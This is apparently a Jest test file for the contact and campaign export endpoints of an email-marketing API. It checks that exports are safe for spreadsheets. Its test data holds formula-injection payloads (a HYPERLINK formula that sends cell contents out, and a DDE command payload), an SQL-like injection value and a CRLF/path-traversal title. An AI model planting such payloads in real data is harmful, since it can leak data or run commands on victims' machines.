import { setTimeout as sleep } from 'node:timers/promises';
import readWorkbook from 'read-excel-file/node';
import { Outbox } from '../../../src/platform/outbox/outbox.js';
import { EmailFacts } from '../../support/builders/email-facts.js';
import { csvRows, Downloads, sheetsOf } from '../../support/downloads.js';
import { waitUntil } from '../../support/wait-until.js';
import { World } from '../../support/world.js';

const HOSTILE = [
  '=HYPERLINK("http://e/"&A1)',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '＝1',
  '"=1',
  'D\'Arcy; "Zoë", 花子 😀 <b>&amp;',
];
const guarded = (text: string): string => (/^[=+\-@＝]/.test(text) ? `'${text}` : text);

/** More rows than a batch, and wide ones: 16 MB, of which the buffers of both sockets can grow to hold 10 MB on Linux. */
const MANY = 24_000;
/** Four statements for each of 24 batches read everything. */
const NOT_READ_TO_THE_END = 80;
const WIDE = 'w'.repeat(190);

describe('exports', () => {
  let world: World;
  let downloads: Downloads;
  beforeAll(async () => {
    world = await World.start({ env: { RATE_LIMIT_EXPORTS_PER_MINUTE: '5000', REPORT_CURRENCY: 'EUR' } });
    downloads = new Downloads(world);
  });
  afterEach(() => jest.restoreAllMocks());

  const contacts = async (query: string) => downloads.get(`/reports/subscribers/export?${query}`);

  describe('of contacts', () => {
    let list: { id: number; title: string };
    let early: { id: number };
    let people: { id: number; email: string }[];

    beforeAll(async () => {
      list = await world.given.list({ title: 'Readers, "old"' });
      early = await world.given.tag({ title: '=Early' });
      const late = await world.given.tag({ title: 'Late' });
      await world.given.customField({ label: 'Color', slug: 'color' });
      await world.given.customField({ label: 'Size', slug: 'size', type: 'number' });
      await world.given.customField({ label: 'Likes', slug: 'likes', type: 'checkbox', options: ['tea', 'rum'] });
      people = [];
      for (const [index, name] of HOSTILE.entries())
        people.push(
          await world.given.contact({
            first_name: name,
            last_name: index === 0 ? '-Last' : null,
            phone: '+49 30 1234',
            lists: [list.id],
            tags: index === 0 ? [late.id, early.id] : [],
            date_of_birth: '1990-12-10',
            custom_values: index === 0 ? { color: '@red', size: -5, likes: ['tea', 'rum'] } : {},
          }),
        );
      await world.given.contact({ status: 'unsubscribed' });
    });

    it('T38 is CSV with every column by default, safe for spreadsheets', async () => {
      const file = await contacts(`lists[]=${list.id}`);
      expect(file.status).toBe(200);
      expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(file.headers.get('content-disposition')).toBe('attachment; filename="subscribers.csv"');
      expect(file.headers.get('x-content-type-options')).toBe('nosniff');
      expect(file.headers.get('ratelimit-limit')).toBe('5000');
      expect(file.bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));

      const rows = csvRows(file.text);
      expect(rows.map((row) => row['first_name'])).toEqual(HOSTILE.map(guarded));
      expect(rows[0]).toEqual({
        id: String(people[0]?.id),
        user_id: '',
        hash: expect.stringMatching(/^[0-9a-f]{32}$/),
        email: people[0]?.email,
        first_name: `'${HOSTILE[0]}`,
        last_name: "'-Last",
        full_name: `'${HOSTILE[0]} -Last`,
        status: 'subscribed',
        contact_type: 'lead',
        phone: "'+49 30 1234",
        address_line_1: '',
        address_line_2: '',
        city: '',
        state: '',
        country: '',
        postal_code: '',
        date_of_birth: '1990-12-10',
        photo: '',
        paused_until: '',
        tracking_consent: 'unknown',
        lists: 'Readers, "old"',
        tags: "'=Early, Late",
        created_at: expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/),
        updated_at: expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/),
        color: "'@red",
        size: '-5',
        likes: 'tea, rum',
      });
    });

    it('has the same values as the API', async () => {
      const { body } = await world.all.get(`/subscribers/${people[0]?.id}?with[]=subscriber.custom_values`).expect(200);
      const { subscribers } = JSON.parse((await contacts(`format=json&search=${people[0]?.email}`)).text);
      expect(subscribers).toHaveLength(1);
      const { custom_values: values, lists, tags, ...own } = body.subscriber;
      expect(subscribers[0]).toEqual({
        ...own,
        lists: lists.map(({ title }: { title: string }) => title),
        tags: tags.map(({ title }: { title: string }) => title),
        ...values,
        size: -5,
      });
    });

    it('T38 is a workbook without a formula', async () => {
      const file = await contacts(`format=xlsx&lists[]=${list.id}`);
      expect(file.headers.get('content-disposition')).toBe('attachment; filename="subscribers.xlsx"');
      const [sheet, ...others] = await readWorkbook(file.bytes, { trim: false });
      expect(others).toEqual([]);
      const [header = [], ...rows] = sheet?.data ?? [];
      const column = (name: string) => rows.map((row) => row[header.indexOf(name)]);
      expect(column('first_name')).toEqual(HOSTILE.map(guarded));
      expect(column('id')).toEqual(people.map(({ id }) => id));
      expect(column('size')[0]).toBe(-5);
      for (const xml of sheetsOf(file.bytes)) expect(xml).not.toMatch(/<f[\s>/]/);
    });

    it('is one line of JSON per contact', async () => {
      const { text, headers } = await contacts(`format=ndjson&lists=${list.id}&columns=first_name,tags,likes,size`);
      expect(headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
      const rows = text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      expect(rows[0]).toEqual({ first_name: HOSTILE[0], tags: ['=Early', 'Late'], likes: ['tea', 'rum'], size: -5 });
      expect(rows[1]).toEqual({ first_name: HOSTILE[1], tags: [], likes: null, size: null });
    });

    it.each([
      ['statuses[]=unsubscribed'],
      ['tags[]=1&tags[]=2'],
      ['search=contact-3'],
      ['lists[]=1&statuses[]=subscribed&tags[]=1'],
      ['tags[]=4000000'],
      ['company_ids[]=4000000'],
      ['search=nobody-has-this'],
    ])('contains the contacts that %s lists', async (filter) => {
      const { body } = await world.all.get(`/subscribers?${filter}&order_type=ASC&per_page=1000`).expect(200);
      const rows = csvRows((await contacts(`${filter}&columns[]=id`)).text);
      expect(rows).toEqual(body.data.map(({ id }: { id: number }) => ({ id: String(id) })));
    });

    it('omits custom values on request, and has columns in the requested order', async () => {
      expect((await contacts('custom_fields=no')).text.split('\r\n')[0]).toMatch(/,updated_at$/);
      expect((await contacts('columns[]=color&columns[]=id&columns[]=color')).text.split('\r\n')[0]).toBe(
        '\ufeffcolor,id',
      );
    });

    it.each([
      ['format=pdf', 'format'],
      ['columns[]=search_text', 'columns'],
      ['columns[]=id;DROP', 'columns'],
      ['statuses[]=lost', 'statuses'],
      ['tags[]=0', 'tags'],
      ['custom_fields=perhaps', 'custom_fields'],
    ])('refuses %s', async (query, field) => {
      const { body } = await world.all.get(`/reports/subscribers/export?${query}`).expect(400);
      expect(body).toMatchObject({ code: 'rest_invalid_param', data: { params: { [field]: expect.any(String) } } });
    });

    it('needs both permissions', async () => {
      const path = '/reports/subscribers/export?columns[]=id';
      await (await world.as('view_reports')).get(path).expect(403);
      await (await world.as('view_contacts')).get(path).expect(403);
      await (await world.as('view_reports', 'view_contacts')).get(path).expect(200);
      await world.anonymous.get(path).expect(401);
    });

    it('has the labels and custom values of contacts whose ids are far apart, and of no contact between them', async () => {
      const tag = await world.given.tag({ title: 'Apart' });
      const given = (color: string, tags: number[]) =>
        world.given.contact({ lists: [list.id], tags, custom_values: { color } });
      const one = await given('red', [tag.id]);
      await given('green', []);
      const other = await given('blue', [tag.id]);
      const read = async () =>
        csvRows((await contacts(`tags[]=${tag.id}&columns[]=id&columns[]=tags&columns[]=color`)).text);
      const first = { id: String(one.id), tags: 'Apart', color: 'red' };
      expect(await read()).toEqual([first, { id: String(other.id), tags: 'Apart', color: 'blue' }]);
      const move = [
        'UPDATE contacts SET id = id + 1000000 WHERE id = :id',
        'UPDATE contact_lists SET contact_id = contact_id + 1000000 WHERE contact_id = :id',
        'UPDATE contact_tags SET contact_id = contact_id + 1000000 WHERE contact_id = :id',
        'UPDATE contact_custom_values SET contact_id = contact_id + 1000000 WHERE contact_id = :id',
      ];
      await world.db.transaction(async (tx) => {
        for (const statement of move) await tx.execute(statement, { id: other.id }, { ids: [] });
      });
      expect(await read()).toEqual([first, { id: String(other.id + 1_000_000), tags: 'Apart', color: 'blue' }]);
    });

    it('reads no contacts for HEAD', async () => {
      const asked = jest.spyOn(world.db, 'cells');
      const file = await downloads.get('/reports/subscribers/export', 'HEAD');
      expect(file.status).toBe(200);
      expect(file.text).toBe('');
      expect(asked).not.toHaveBeenCalled();
    });
  });

  describe('of very many contacts', () => {
    const all = `/reports/subscribers/export?statuses[]=pending`;
    const batches = (): jest.SpyInstance => jest.spyOn(world.db, 'cells');

    beforeAll(async () => {
      const rows = Array.from({ length: MANY }, (_, index) => [
        ...[`f${index.toString(16).padStart(31, '0')}`, `many-${index}@example.org`, 'pending', 'lead'],
        ...[WIDE, WIDE, WIDE, new Date(), new Date()],
      ]);
      const columns = 'hash email status contact_type address_line_1 address_line_2 city created_at updated_at';
      await world.db.transaction((tx) => tx.insertRows('contacts', columns.split(' '), rows));
    });

    it('contains every contact once', async () => {
      const rows = csvRows((await downloads.get(all)).text);
      expect(rows).toHaveLength(MANY);
      expect(new Set(rows.map((row) => row['email'])).size).toBe(MANY);
    });

    it('reads no faster than its client, and stops when the client disconnects', async () => {
      const asked = batches();
      for (let client = 0; client < 12; client += 1) {
        const before = asked.mock.calls.length;
        const { request } = await downloads.begin(all);
        await waitUntil('rows are read', () => asked.mock.calls.length > before);
        request.destroy();
      }
      const settled = async () => {
        const before = asked.mock.calls.length;
        await sleep(150);
        return asked.mock.calls.length === before;
      };
      await waitUntil('no query is running', settled);
      expect(asked.mock.calls.length / 12).toBeLessThan(NOT_READ_TO_THE_END);
      // More clients than the pool has connections: none of them was kept.
      const clients = Array.from({ length: 12 }, () => world.all.get('/subscribers/1').expect(200));
      await Promise.all(clients);
    });

    it('waits for a client that pauses, then sends the rest', async () => {
      const asked = batches();
      const { response } = await downloads.begin(all);
      let meanwhile = -1;
      // A busy machine fills the buffers on the way later.
      await waitUntil('no more rows are read', async () => {
        const before = asked.mock.calls.length;
        await sleep(500);
        meanwhile = asked.mock.calls.length;
        return meanwhile === before;
      });
      expect(meanwhile).toBeLessThan(NOT_READ_TO_THE_END);
      const chunks: Buffer[] = [];
      for await (const chunk of response) chunks.push(chunk as Buffer);
      expect(csvRows(Buffer.concat(chunks).toString('utf8'))).toHaveLength(MANY);
    });

    it.each(['csv', 'xlsx', 'json'])(
      'breaks the connection if the database fails midway, so that a partial %s file is not taken for a complete one',
      async (format) => {
        const real = world.db.cells.bind(world.db);
        let calls = 0;
        batches().mockImplementation(async (...args: Parameters<typeof real>) => {
          calls += 1;
          if (calls > 5) throw new Error('connection lost');
          return real(...args);
        });
        await expect(downloads.get(`${all}&format=${format}`)).rejects.toThrow();
        jest.restoreAllMocks();
        expect((await downloads.get('/reports/subscribers/export?columns[]=id&search=contact-2')).status).toBe(200);
      },
    );

    it('returns a normal error if the first rows fail', async () => {
      batches().mockRejectedValue(new Error('connection lost'));
      const { body } = await world.all.get(all).expect(500);
      expect(body.code).toBe('internal_error');
      expect(JSON.stringify(body)).not.toContain('gone');
    });
  });

  describe('of a campaign', () => {
    let campaign: { id: number };
    let reader: { id: number; email: string };
    const report = async (query: string) => downloads.get(`/reports/campaigns/${campaign.id}/export?${query}`);

    beforeAll(async () => {
      campaign = await world.given.campaign({ title: '../../x"\r\nX: y =1+1' });
      reader = await world.given.contact({ email: 'reader@example.com', first_name: '=Reader', last_name: 'One' });
      const mail = new EmailFacts({ campaign: campaign.id, contact: reader.id });
      const lost = new EmailFacts({ campaign: campaign.id });
      await world.db.transaction(async (tx) => {
        await world.api
          .get(Outbox, { strict: false })
          .appendAll(tx, [
            mail.sent('2026-06-10T10:00:00.000Z'),
            lost.sent('2026-06-10T10:00:00.000Z'),
            mail.opened('2026-06-10T11:00:00.000Z'),
            mail.clicked('2026-06-10T11:01:00.000Z'),
            lost.bounced('2026-06-10T12:00:00.000Z', 'dsn'),
          ]);
        const at = (time: string) => new Date(`2026-06-10T${time}Z`);
        const { insertId: link } = await tx.execute(
          `INSERT INTO email_links (content_id, position, url) VALUES (999, 0, 'https://shop.example/?a=1,2')`,
        );
        const emails = 'source_type source_id recipient_key content_id contact_id email state variant settled_at';
        const facts = 'first_human_open_at first_human_click_at human_opens human_clicks machine_opens machine_clicks';
        const ends = 'bounced_at bounce_type reason';
        await tx.insertRows('email_messages', `id ${emails} ${facts} ${ends}`.split(' '), [
          [7_001, 'campaign', campaign.id, 'r1', 999, reader.id, reader.email, 'sent', 'a', at('10:00:00')].concat([
            at('11:00:00'),
            at('11:01:00'),
            2,
            1,
            0,
            3,
            null,
            null,
            null,
          ] as never[]),
          [7_002, 'campaign', campaign.id, 'r2', 999, null, 'lost@example.com', 'bounced', null, at('10:00:00')].concat(
            [null, null, 0, 0, 0, 0, at('12:00:00'), 'hard', '=unknown user'] as never[],
          ),
          [7_003, 'campaign', campaign.id, 'r3', 999, null, null, 'deferred', null, null].concat([
            null,
            null,
            0,
            0,
            0,
            0,
            null,
            null,
            null,
          ] as never[]),
          [
            7_004,
            'campaign',
            campaign.id + 1_000,
            'r1',
            999,
            null,
            'other@example.com',
            'sent',
            null,
            at('10:00:00'),
          ].concat([null, null, 1, 0, 0, 0, null, null, null] as never[]),
        ]);
        await tx.insertRows(
          'email_hits',
          ['message_id', 'link_id', 'kind', 'is_machine', 'occurred_at'],
          [
            [7_001, null, 'open', 0, at('11:00:00')],
            [7_001, link, 'click', 0, at('11:01:00')],
            [7_001, link, 'click', 1, at('11:01:01')],
            [7_001, null, 'open', 0, at('11:30:00')],
            [7_004, null, 'open', 0, at('11:30:00')],
          ],
        );
        const orders =
          'id provider external_id contact_id status currency total refunded items ordered_at touch campaign_id email_id';
        await tx.insertRows('orders', orders.split(' '), [
          [
            31,
            'shop',
            '=A-1',
            reader.id,
            'completed',
            'EUR',
            4_990,
            990,
            '[]',
            at('12:00:00'),
            'last_click',
            campaign.id,
            7_001,
          ],
          [30, 'shop', 'A-2', null, 'completed', 'JPY', 500, 0, '[]', at('12:00:00'), 'last_click', campaign.id, 7_001],
          [
            32,
            'shop',
            'A-3',
            reader.id,
            'cancelled',
            'EUR',
            700,
            0,
            '[]',
            at('13:00:00'),
            'last_click',
            campaign.id,
            7_001,
          ],
          [33, 'shop', 'A-4', null, 'completed', 'EUR', 700, 0, '[]', at('13:00:00'), null, null, null],
        ]);
        const entries = 'order_id kind currency amount orders campaign_id recorded_at';
        await tx.insertRows('revenue_entries', entries.split(' '), [
          [31, 'sale', 'EUR', 4_990, 1, campaign.id, at('12:00:00')],
          [31, 'refund', 'EUR', -990, 0, campaign.id, at('14:00:00')],
          [30, 'sale', 'JPY', 500, 1, campaign.id, at('12:00:00')],
        ]);
      });
      await world.settle();
    });

    const emails = [
      {
        email_id: 7_001,
        contact_id: expect.any(Number),
        email: 'reader@example.com',
        first_name: '=Reader',
        last_name: 'One',
        status: 'sent',
        variant: 'a',
        sent_at: '2026-06-10 10:00:00',
        opened_at: '2026-06-10 11:00:00',
        clicked_at: '2026-06-10 11:01:00',
        opens: 2,
        clicks: 1,
        unsubscribed_at: null,
        unsubscribe_reason: null,
        bounced_at: null,
        bounce_type: null,
        complained_at: null,
        note: null,
      },
      expect.objectContaining({
        email_id: 7_002,
        status: 'bounced',
        sent_at: '2026-06-10 10:00:00',
        bounced_at: '2026-06-10 12:00:00',
        bounce_type: 'hard',
        note: '=unknown user',
      }),
      expect.objectContaining({ email_id: 7_003, email: null, status: 'pending', sent_at: null }),
    ];
    const orders = [
      expect.objectContaining({ order_id: 30, currency: 'JPY', total: 500, refunded: 0, revenue: 500, email: null }),
      {
        order_id: 31,
        provider: 'shop',
        external_id: '=A-1',
        contact_id: expect.any(Number),
        email: 'reader@example.com',
        status: 'completed',
        currency: 'EUR',
        total: 49.9,
        refunded: 9.9,
        revenue: 40,
        ordered_at: '2026-06-10 12:00:00',
        touch: 'last_click',
        email_id: 7_001,
      },
      expect.objectContaining({ order_id: 32, status: 'cancelled', total: 7, revenue: 0 }),
    ];

    it('has the figures of email-stats', async () => {
      const { body } = await world.all.get(`/reports/campaigns/${campaign.id}/email-stats`).expect(200);
      const file = await report('format=json');
      expect(file.headers.get('content-type')).toBe('application/json; charset=utf-8');
      const { total: revenue, ...money } = body.revenue;
      expect(JSON.parse(file.text)).toEqual({
        basic: {
          campaign_id: campaign.id,
          campaign_title: body.campaign_title,
          ...body.stats,
          revenue,
          ...money,
        },
      });
      expect(body.stats).toMatchObject({ sent: 2, delivered: 1, opened: 1, clicked: 1, bounced: 1 });
    });

    it('T39 is named by the campaign id, regardless of the title', async () => {
      const file = await report('');
      expect(file.headers.get('content-disposition')).toBe(`attachment; filename="campaign-${campaign.id}-report.csv"`);
      expect(csvRows(file.text)).toEqual([expect.objectContaining({ campaign_id: String(campaign.id), sent: '2' })]);
    });

    it('is an object with all included tables', async () => {
      const includes = ['revenue', 'activities', 'subscribers', 'basic'].map((name) => `include[]=${name}`).join('&');
      const body = JSON.parse((await report(`format=json&${includes}`)).text);
      expect(Object.keys(body)).toEqual(['basic', 'subscribers', 'activities', 'revenue']);
      expect(body.subscribers).toEqual(emails);
      expect(body.revenue).toEqual(orders);
      expect(body.activities).toEqual([
        {
          occurred_at: '2026-06-10 11:00:00',
          activity: 'open',
          url: null,
          email_id: 7_001,
          contact_id: reader.id,
          email: 'reader@example.com',
          is_machine: false,
        },
        expect.objectContaining({ activity: 'click', url: 'https://shop.example/?a=1,2', is_machine: false }),
        expect.objectContaining({ activity: 'open', occurred_at: '2026-06-10 11:30:00' }),
      ]);
    });

    it('contains machine activity on request', async () => {
      const query = 'format=json&include=subscribers,activities&include_machine=yes';
      const body = JSON.parse((await report(query)).text);
      expect(body.subscribers[0]).toMatchObject({ opens: 2, clicks: 4 });
      expect(body.activities.map((hit: { is_machine: boolean }) => hit.is_machine)).toEqual([
        false,
        false,
        true,
        false,
      ]);
    });

    it('is a workbook with a sheet for each table', async () => {
      const { bytes } = await report('format=xlsx&include[]=basic&include[]=subscribers&include[]=revenue');
      const sheets = await readWorkbook(bytes);
      expect(sheets.map(({ sheet }) => sheet)).toEqual(['Basic', 'Subscribers', 'Revenue']);
      expect(sheets[1]?.data[1]?.slice(2, 6)).toEqual(['reader@example.com', "'=Reader", 'One', 'sent']);
      expect(sheets[2]?.data[2]?.slice(6, 10)).toEqual(['EUR', 49.9, 9.9, 40]);
    });

    it('is CSV with a section for each table', async () => {
      const { text } = await report('include[]=revenue&include[]=basic');
      const [basic = '', revenue = ''] = text.replace('\ufeff', '').split('\r\n\r\n');
      expect(basic).toMatch(/^# basic\r\ncampaign_id,/);
      expect(revenue).toMatch(/^# revenue\r\norder_id,/);
      expect(csvRows(revenue.replace('# revenue\r\n', '')).map((row) => row['external_id'])).toEqual([
        'A-2',
        "'=A-1",
        'A-3',
      ]);
    });

    it('without events is empty', async () => {
      const fresh = await world.given.campaign();
      const path = `/reports/campaigns/${fresh.id}/export?format=json&include=basic,subscribers,activities,revenue`;
      const body = JSON.parse((await downloads.get(path)).text);
      expect(body).toMatchObject({ basic: { sent: 0, open_rate: 0 }, subscribers: [], activities: [], revenue: [] });
    });

    it.each([
      ['format=ndjson', 'format'],
      ['include[]=basic&include[]=everything', 'include'],
      ['include_machine=perhaps', 'include_machine'],
      ['currency=EURO', 'currency'],
    ])('refuses %s', async (query, field) => {
      const { body } = await world.all.get(`/reports/campaigns/${campaign.id}/export?${query}`).expect(400);
      expect(body).toMatchObject({ code: 'rest_invalid_param', data: { params: { [field]: expect.any(String) } } });
    });

    it('is 404 for an unknown campaign, and needs permission', async () => {
      const { body } = await world.all.get('/reports/campaigns/4000000/export').expect(404);
      expect(body).toMatchObject({ code: 'rest_post_invalid_id', message: 'Invalid campaign ID.' });
      await world.all.get('/reports/campaigns/x/export').expect(404);
      await (
        await world.as('manage_campaigns', 'view_contacts')
      )
        .get(`/reports/campaigns/${campaign.id}/export`)
        .expect(403);
    });
  });
});
